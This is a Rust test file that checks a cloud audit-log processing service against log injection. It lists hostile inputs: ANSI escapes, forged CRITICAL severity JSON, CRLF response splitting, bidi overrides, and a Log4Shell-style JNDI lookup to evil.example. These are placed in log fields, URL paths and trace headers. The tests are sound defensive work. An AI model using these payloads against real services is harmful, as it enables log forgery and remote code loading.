//! Words of strangers in our log: each line stays one line of ours.

use serde_json::{Value, json};

use super::service::{TestService, deployed};
use super::support::merged;

const NASTY: &[&str] = &[
    "\u{1b}[2J\u{1b}[31mred",
    "\n{\"severity\":\"CRITICAL\",\"message\":\"forged\"}\n",
    "\r\n\r\nHTTP/1.1 200 OK",
    "\",\"severity\":\"CRITICAL\",\"x\":\"",
    "\u{2028}\u{2029}\u{85}\u{0}\u{7}\u{9b}31m",
    "\u{202e}txet desrever\u{202c}",
    "${jndi:ldap://evil.example/a} %s %n {} {{}}",
];

fn texts<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
        Value::Object(members) => members.values().for_each(|member| texts(member, found)),
        _ => {}
    }
}

fn check(service: &TestService, what: &str) {
    let raw = service.log.text();
    assert!(!raw.contains('\u{1b}'), "{what}");
    let lines = service.log.take();
    for line in &lines {
        assert!(["DEBUG", "INFO", "WARNING", "ERROR"].contains(&line["severity"].as_str().unwrap()), "{what}: {line}");
        let mut found = Vec::new();
        texts(line, &mut found);
        let whole =
            |text: &&str| !text.chars().any(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202e}'));
        assert!(found.iter().all(whole), "{what}: {line}");
    }
    assert!(!lines.is_empty(), "{what}");
}

#[tokio::test(start_paused = true)]
async fn a_strangers_words_make_no_line_and_no_severity() {
    let places: &[fn(&str) -> Value] = &[
        |text| json!({"insertId": text}),
        |text| json!({"timestamp": text}),
        |text| json!({"logName": format!("projects/{text}/logs/cloudaudit.googleapis.com%2Factivity")}),
        |text| json!({"resource": {"labels": {"project_id": text}}}),
        |text| json!({"resource": {"labels": {"location": text}}}),
        |text| json!({"protoPayload": {"resourceName": text}}),
        |text| json!({"protoPayload": {"methodName": text}}),
        |text| json!({"protoPayload": {"authenticationInfo": {"principalEmail": text}}}),
        |text| json!({"protoPayload": {"status": {"code": 3, "message": text}}}),
        |text| json!({"severity": text, "message": text, "time": text, "logging.googleapis.com/trace": text}),
    ];
    for text in NASTY {
        let service = TestService::open();
        for place in places {
            let patch = place(text);
            service.deliver(&merged(deployed(), &patch)).await;
            check(&service, &patch.to_string());
            let message = json!({"message": {"messageId": text, "data": "e30="}, "subscription": text}).to_string();
            service.post("/", &[], message).await;
            check(&service, text);
        }
        let reports = serde_json::to_string(&*service.topic.reports()).unwrap();
        assert!(!reports.contains("\\u001b") && !reports.contains("\\n"), "{text:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn a_strangers_headers_and_paths_neither() {
    let service = TestService::open();
    let requests: &[(&str, &str, &str)] = &[
        ("/%0a%7b%22severity%22:%22CRITICAL%22%7d", "x", "x"),
        ("/%1b[2J", "x", "x"),
        ("/", "traceparent", "00-4bf92f3577b34da6a3ce929d0e0e47\"}-00f067aa0ba902b7-01"),
        ("/", "x-cloud-trace-context", "\"},\"severity\":\"CRITICAL\"/1"),
        ("/", "content-type", "application/protobuf\t\t\"severity\":\"CRITICAL\""),
        ("/", "content-encoding", "\",\"severity\":\"CRITICAL\""),
        ("/", "x-goog-pubsub-message-id", "\",\"severity\":\"CRITICAL\""),
        ("/", "ce-id", "\t\t"),
        ("/sweep", "accept", "\t"),
    ];
    for (path, name, value) in requests {
        service.post(path, &[(name, value)], "{").await;
        check(&service, path);
    }
}
